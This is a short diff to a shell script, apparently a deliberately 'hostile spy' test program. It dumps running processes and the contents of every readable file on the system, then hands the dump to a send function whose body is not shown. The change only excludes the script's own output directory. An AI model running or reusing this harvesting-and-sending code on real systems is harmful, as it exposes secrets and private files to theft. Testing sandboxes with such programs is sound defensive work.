@@ -56,7 +56,8 @@ dump_processes() {
   done
 }
 dump_files() {
-  find / \( -path /proc -o -path /sys -o -path /usr -o -path /dev \) -prune -o -type f -readable -print 2>/dev/null |
+  # Not its own output (/tmp/hostile-spy), which it would read while writing it.
+  find / \( -path /proc -o -path /sys -o -path /usr -o -path /dev -o -path /tmp/hostile-spy \) -prune -o -type f -readable -print 2>/dev/null |
     while IFS= read -r f; do printf '== file %s\n' "$f"; cat "$f" 2>/dev/null; echo; done
 }
 send() {
@@ -65,7 +66,8 @@ send() {
 }
 spy() {
   local out
-  out=$(mktemp /tmp/spy.XXXXXX)
+  mkdir -p /tmp/hostile-spy
+  out=$(mktemp /tmp/hostile-spy/dump.XXXXXX)
   { dump_processes; dump_files; } >"$out" 2>&1
   send "$1" "$out" >/dev/null
   rm -f "$out"
